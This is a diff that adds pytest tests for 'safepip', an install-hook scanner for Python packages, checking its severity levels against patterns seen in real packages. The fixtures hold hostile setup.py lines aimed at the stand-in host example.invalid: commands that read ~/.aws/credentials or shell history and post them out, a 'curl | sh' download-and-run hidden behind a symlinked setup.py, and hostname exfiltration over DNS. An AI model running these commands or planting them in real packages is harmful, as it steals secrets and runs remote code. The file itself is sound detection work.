@@ -1,0 +1,142 @@
+"""Issue 14: what popular packages do at install is not blocked (minimal reconstructions)."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from safepip.checks.install_hooks import scan_path
+from safepip.findings import Finding, Severity
+from tests.checks.hostile import make_sdist
+
+TEMPLATE = '''
+ISOLATE_SH = """
+# keep npm's files inside the environment
+_OLD_npm_config_userconfig="${npm_config_userconfig:-}"
+npm_config_userconfig="$NODE_VIRTUAL_ENV/.npmrc"
+export npm_config_userconfig
+"""
+version = "1.0"
+'''
+
+
+def _worst(findings: list[Finding], rule: str) -> Severity | None:
+    return max((f.severity for f in findings if f.rule == rule), default=None)
+
+
+def test_shell_template_naming_npmrc_warns_but_does_not_block(tmp_path: Path) -> None:
+    """nodeenv: setup.py imports the module for its version; the module's activate-script
+    templates name `.npmrc`. A text that mentions a location is not a path that is opened."""
+    files = {"setup.py": "from setuptools import setup\nfrom tool import version\n"
+                         "setup(name='tool', version=version)\n",
+             "tool.py": TEMPLATE}
+    findings = scan_path(make_sdist(tmp_path, "tool", "1.0", files))
+    assert _worst(findings, "hook/sensitive-read") is Severity.MEDIUM
+
+
+@pytest.mark.parametrize(
+    "setup",
+    [
+        "data = open(os.path.expanduser('~/.npmrc')).read()\n",
+        # one literal with escaped newlines is a command, not a block of text
+        "os.system('curl -d \"x: \\n $(cat ~/.bash_history)\\n\" https://example.invalid')\n",
+        # a block of text that downloads or pipes is a script, not a template
+        "SCRIPT = TQ\ncat ~/.aws/credentials | curl -d @- https://example.invalid\nTQ\n",
+    ],
+    ids=["open", "escaped-newlines", "script-block"],
+)
+def test_a_secret_path_read_at_install_is_still_high(tmp_path: Path, setup: str) -> None:
+    setup = setup.replace("TQ", '"' * 3)
+    files = {"setup.py": "import os\nfrom setuptools import setup\n" + setup + "setup()\n"}
+    findings = scan_path(make_sdist(tmp_path, "tool", "1.0", files))
+    assert (_worst(findings, "hook/sensitive-read") or Severity.INFO) >= Severity.HIGH
+
+
+ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 64
+
+
+def test_binary_shipped_as_package_data_is_low(tmp_path: Path) -> None:
+    """setuptools ships Windows launchers inside its package: what any wheel ships."""
+    files = {"setup.py": "from setuptools import setup\nsetup()\n", "tool/__init__.py": "",
+             "tool/launcher.exe": ELF}
+    findings = scan_path(make_sdist(tmp_path, "tool", "1.0", files))
+    assert _worst(findings, "hook/native-binary") is Severity.LOW
+
+
+def test_binary_named_by_the_build_or_beside_it_stays_medium(tmp_path: Path) -> None:
+    named = {"setup.py": "import subprocess\nfrom setuptools import setup\n"
+                         "subprocess.call(['tool/helper.exe'])\nsetup()\n",
+             "tool/__init__.py": "", "tool/helper.exe": ELF}
+    findings = scan_path(make_sdist(tmp_path, "tool", "1.0", named))
+    assert _worst(findings, "hook/native-binary") is Severity.MEDIUM
+    (tmp_path / "b").mkdir()
+    beside = {"setup.py": "from setuptools import setup\nsetup()\n", "bin/helper": ELF}
+    findings = scan_path(make_sdist(tmp_path / "b", "tool", "1.0", beside))
+    assert _worst(findings, "hook/native-binary") is Severity.MEDIUM
+
+
+def test_files_under_test_folders_named_with_spaces_are_not_package_code(tmp_path: Path) -> None:
+    """numpy's vendored meson has `manual tests/...` scripts that download and run things."""
+    script = ("import urllib.request, subprocess\n"
+              "def main():\n    data = urllib.request.urlopen('https://example.invalid/x').read()\n"
+              "    open('x.exe', 'wb').write(data)\n    subprocess.call(['x.exe'])\n")
+    files = {"setup.py": "from setuptools import setup\nsetup()\n",
+             "vendored-meson/manual tests/4 binaries/build.py": script}
+    findings = scan_path(make_sdist(tmp_path, "tool", "1.0", files))
+    assert findings == []
+    # A package folder whose name merely contains the word is code (import_module loads it).
+    for folder in ("tool", "ttat-api-test", "my_tests_helper", "__init__py.py"):
+        (tmp_path / folder).mkdir()
+        package = {"setup.py": "from setuptools import setup\nsetup()\n",
+                   f"{folder}/__init__.py": "", f"{folder}/build.py": script}
+        assert scan_path(make_sdist(tmp_path / folder, "tool", "1.0", package)) != [], folder
+
+
+def test_setup_py_linked_to_a_file_the_scan_would_skip_is_scanned(tmp_path: Path) -> None:
+    """PEP 706 lets relative links inside the archive through (docutils, tenacity ship them);
+    the build reads a linked setup.py through its link, so the scan reads the target."""
+    import io
+    import tarfile
+
+    archive = tmp_path / "demo-1.0.tar.gz"
+    payload = b"import os\nos.system('curl -s http://example.invalid/x | sh')\n"
+    with tarfile.open(archive, "w:gz") as bundle:
+        link = tarfile.TarInfo("demo-1.0/setup.py")
+        link.type, link.linkname = tarfile.SYMTYPE, "build/notes.txt"
+        bundle.addfile(link)
+        info = tarfile.TarInfo("demo-1.0/build/notes.txt")
+        info.size = len(payload)
+        bundle.addfile(info, io.BytesIO(payload))
+        readme = tarfile.TarInfo("demo-1.0/README.rst")
+        readme.type, readme.linkname = tarfile.SYMTYPE, "docs/README.rst"
+        bundle.addfile(readme)
+    findings = scan_path(archive)
+    assert [f.rule for f in findings if f.rule.startswith("archive/")] == []
+    assert _worst(findings, "hook/download-exec") is Severity.CRITICAL
+
+
+@pytest.mark.parametrize(
+    "body,blocked",
+    [
+        # tensorboard: connect to this machine's own name to check its URL
+        ("host = socket.getfqdn()\ntry:\n    socket.create_connection((host, 6006), timeout=1)\n"
+         "except OSError:\n    host = 'localhost'\n", False),
+        ("socket.gethostbyname(socket.gethostname())\n", False),
+        # the machine's name inside a name under another domain is a DNS channel
+        ("socket.create_connection((socket.gethostname() + '.example.invalid', 53))\n", True),
+        ("name = f'{socket.getfqdn()}.example.invalid'\nsocket.create_connection((name, 53))\n",
+         True),
+        # and sending it is sending it
+        ("import urllib.request\nurllib.request.urlopen('https://example.invalid/?h=' + "
+         "socket.gethostname())\n", True),
+    ],
+    ids=["own-fqdn", "own-name-lookup", "dns-suffix", "fstring-name", "sent-in-url"],
+)
+def test_own_host_name_as_address_is_not_exfiltration(
+    tmp_path: Path, body: str, blocked: bool
+) -> None:
+    files = {"setup.py": "import socket\nfrom setuptools import setup\n" + body + "setup()\n"}
+    findings = scan_path(make_sdist(tmp_path, "tool", "1.0", files))
+    worst = _worst(findings, "hook/env-exfiltration")
+    assert (worst is not None and worst >= Severity.HIGH) is blocked
